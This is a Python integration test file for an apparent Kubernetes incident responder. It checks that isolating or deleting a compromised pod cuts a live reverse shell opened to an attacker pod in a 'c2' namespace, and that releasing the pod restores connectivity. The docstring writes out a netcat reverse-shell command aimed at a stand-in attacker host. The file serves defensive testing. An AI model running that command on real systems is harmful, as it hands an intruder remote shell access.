"""Containment proven where the attacker sits: at the other end of a live reverse shell, on the real node.

The shell is real (`nc ATTACKER 4444 -e /bin/sh` in the victim pod), the attacker is a pod in another namespace, and
the NetworkPolicy dataplane is the node's (tools/node/netpol.py: kube-network-policies' policy engine). Each test
switches the dataplane to the behaviour it is about, replays a Reverse Shell finding for the live shell through
`python -m responder replay` as the responder's least-privilege identity in enforce mode, and then reads what the
attacker saw: whether its commands still get answers. New connections are tried from both sides, as an attacker
would reconnect.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from kubernetes import client

from tests.node.test_real_node import actions, replay
from tests.support import reverse_shell as rs
from tests.support import workloads as w
from tests.support.common import responder_cli
from tests.support.kube import KubeEnv

pytestmark = pytest.mark.node
ROOT = Path(__file__).resolve().parents[2]
SHELL_POLICY = ROOT / "policy.yaml"  # the shipped policy: default-isolate for these namespaces, live_session: escalate
CUT_WITHIN_S = 40.0  # the dataplane's reaction (informer events, then one conntrack sweep): seconds at most


def dataplane(kube_env: KubeEnv, mode: str) -> None:
    done = subprocess.run(
        [
            sys.executable,
            str(ROOT / "tools" / "kubeenv.py"),
            "netpol",
            "--dir",
            str(kube_env.directory),
            "--mode",
            mode,
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=600,
    )
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]


@pytest.fixture
def netpol_mode(kube_env: KubeEnv, kube_node: dict[str, Any]) -> Iterator[Any]:
    """Switch the node's dataplane for one test; the session's default (established) is restored afterwards."""
    yield lambda mode: dataplane(kube_env, mode)
    dataplane(kube_env, "established")


@pytest.fixture
def namespaces(kube_admin: client.ApiClient) -> Iterator[tuple[str, str]]:
    victim = rs.create_namespace(kube_admin, "shop")
    attacker = rs.create_namespace(kube_admin, "c2")
    yield victim, attacker
    for name in (victim, attacker):
        client.CoreV1Api(kube_admin).delete_namespace(name)


def quarantine(
    kube_env: KubeEnv, shell: rs.Shell, tmp_path: Path, expect_rc: int = 0, **env: str
) -> tuple[dict[str, Any], Any, datetime]:
    """Replay the shell's finding; (record, report, when the replay returned)."""
    policy = str(SHELL_POLICY)
    record, report, _ = replay(kube_env, shell.finding(), tmp_path, expect_rc, RESPONDER_POLICY_FILE=policy, **env)
    return record, report, datetime.now(UTC)


def assert_still_answering(shell: rs.Shell, after: datetime, for_s: float) -> None:
    """The attacker keeps getting answers for ``for_s`` seconds after ``after``."""
    time.sleep(for_s)
    late = [t for t in shell.answers() if (t - after).total_seconds() >= for_s - 1.5]
    assert late, f"the shell stopped answering, the attacker's log:\n{shell.log()[-1500:]}"


def assert_cut(shell: rs.Shell, after: datetime) -> datetime:
    """The attacker's commands stop getting answers soon after ``after``, and stay unanswered."""
    last = shell.wait_for_silence(quiet_s=3.0, timeout_s=CUT_WITHIN_S + 5)
    assert last is not None, f"the attacker still gets answers {CUT_WITHIN_S}s later:\n{shell.log()[-1500:]}"
    assert (last - after).total_seconds() < CUT_WITHIN_S, (last, after)
    count = len(shell.answers())
    time.sleep(4)  # the attacker keeps sending five commands a second meanwhile
    assert len(shell.answers()) == count, f"answers came back after the cut:\n{shell.log()[-1500:]}"
    return last


def test_established_mode_cuts_the_live_shell_and_release_restores_the_pod(
    kube_env: KubeEnv,
    kube_admin: client.ApiClient,
    namespaces: tuple[str, str],
    netpol_mode: Any,
    tmp_path: Path,
) -> None:
    netpol_mode("established")
    victim_ns, attacker_ns = namespaces
    shell = rs.open_shell(kube_admin, victim_ns, attacker_ns)
    w.create_running_deployment(kube_admin, victim_ns, "bystander", 1, "sleep 2147483647")
    (bystander,) = w.wait_for_running(kube_admin, victim_ns, 1, "app=bystander")
    assert rs.connects(kube_admin, victim_ns, shell.victim_pod.metadata.name, shell.attacker_ip, rs.PROBE_PORT)

    record, report, replayed = quarantine(kube_env, shell, tmp_path, RESPONDER_NETPOL_ENFORCEMENT="established")

    isolate = actions(record)["isolate"]
    assert isolate["status"] == "succeeded", isolate
    assert isolate["details"]["established_connections"] == "cut", isolate
    assert "delete" not in actions(record)  # the dataplane ends the session: no escalation
    assert record["severity"] == "NOTICE", record
    # The evidence shows the shell's own connection, open when it was captured (before the cut).
    connection = report["inspect"]["connection"]
    assert connection["matched"] and connection["open"], connection
    assert connection["socket"]["remote"] == f"{shell.attacker_ip}:{rs.SHELL_PORT}", connection

    assert_cut(shell, replayed)
    victim = shell.victim_pod.metadata.name
    assert not rs.connects(kube_admin, victim_ns, victim, shell.attacker_ip, rs.PROBE_PORT), "new egress allowed"
    assert not rs.connects(kube_admin, attacker_ns, "c2", shell.victim_ip, rs.SERVICE_PORT), "new ingress allowed"
    assert rs.connects(kube_admin, victim_ns, bystander.metadata.name, shell.attacker_ip, rs.PROBE_PORT)

    released = responder_cli(
        "release", f"{victim_ns}/{victim}", "--yes", "--json", "--without-marks", "--reason", "test: contained",
        env={**{k: v for k, v in os.environ.items() if not k.startswith("RESPONDER_")},
             "RESPONDER_KUBECONFIG": str(kube_env.kubeconfig), "RESPONDER_GOOGLE_APIS": "off"},
    )  # fmt: skip
    assert released.returncode == 0, released.stdout[-2000:] + released.stderr[-2000:]
    assert json.loads(released.stdout.splitlines()[-1])
    # Connectivity is back, seen the same way: new connections in both directions are answered again.
    deadline = time.monotonic() + 30
    while not rs.connects(kube_admin, victim_ns, victim, shell.attacker_ip, rs.PROBE_PORT):
        assert time.monotonic() < deadline, "the released pod still cannot connect"
    assert rs.connects(kube_admin, attacker_ns, "c2", shell.victim_ip, rs.SERVICE_PORT)


def test_new_only_mode_leaves_the_session_alive_unless_the_policy_escalates(
    kube_env: KubeEnv,
    kube_admin: client.ApiClient,
    namespaces: tuple[str, str],
    netpol_mode: Any,
    tmp_path: Path,
) -> None:
    netpol_mode("new-only")
    victim_ns, attacker_ns = namespaces
    shell = rs.open_shell(kube_admin, victim_ns, attacker_ns)

    # live_session: report: the pod is isolated for new connections, the shell lives on, and the record says so.
    record, report, replayed = quarantine(
        kube_env, shell, tmp_path, 3, RESPONDER_NETPOL_ENFORCEMENT="new-only", RESPONDER_LIVE_SESSION="report"
    )
    isolate = actions(record)["isolate"]
    assert isolate["status"] == "succeeded", isolate
    assert isolate["details"]["established_connections"] == "not cut (new connections only)", isolate
    assert "may still be alive" in isolate["reason"]
    assert "delete" not in actions(record)
    # "Do not escalate, page instead": the shell is alive, so the delivery is not contained, at ERROR, and pages.
    assert (record["outcome"], record["severity"]) == ("not_contained", "ERROR"), record
    assert report["response"]["todo"][0].startswith("Not contained: the reverse shell"), report
    victim = shell.victim_pod.metadata.name
    assert not rs.connects(kube_admin, victim_ns, victim, shell.attacker_ip, rs.PROBE_PORT), "new egress allowed"
    assert_still_answering(shell, replayed, 8.0)

    # The shipped policy (live_session: escalate), with the dataplane read as the kubeconfig default (auto:
    # new-only): evidence first, then the pod is deleted, and the session ends with it.
    again, report, replayed = quarantine(kube_env, shell, tmp_path, RESPONDER_NETPOL_ENFORCEMENT="auto")
    steps = actions(again)
    assert steps["isolate"]["details"]["established_connections"] == "not cut (new connections only)", steps
    order = [a["action"] for a in again["actions"]]
    assert order.index("capture") < order.index("delete"), order
    assert steps["delete"]["status"] == "succeeded", steps
    assert report["inspect"]["connection"]["open"], report["inspect"]["connection"]
    assert_cut(shell, replayed)
    assert again["severity"] == "NOTICE", again


def test_without_a_dataplane_the_policy_escalates_and_the_session_ends(
    kube_env: KubeEnv,
    kube_admin: client.ApiClient,
    namespaces: tuple[str, str],
    netpol_mode: Any,
    tmp_path: Path,
) -> None:
    netpol_mode("none")
    victim_ns, attacker_ns = namespaces
    shell = rs.open_shell(kube_admin, victim_ns, attacker_ns)

    record, report, replayed = quarantine(kube_env, shell, tmp_path, RESPONDER_NETPOL_ENFORCEMENT="none")
    steps = actions(record)
    assert steps["isolate"]["status"] == "failed", steps
    assert steps["isolate"]["details"]["established_connections"] == "no enforcement", steps
    assert "detach" not in steps["isolate"]["reason"], steps
    order = [a["action"] for a in record["actions"]]
    assert order.index("capture") < order.index("delete"), order
    assert steps["delete"]["status"] == "succeeded", steps
    assert "ps axjf" not in report["inspect"]["process_tree_note"] or report["inspect"]["process_tree"]
    assert_cut(shell, replayed)
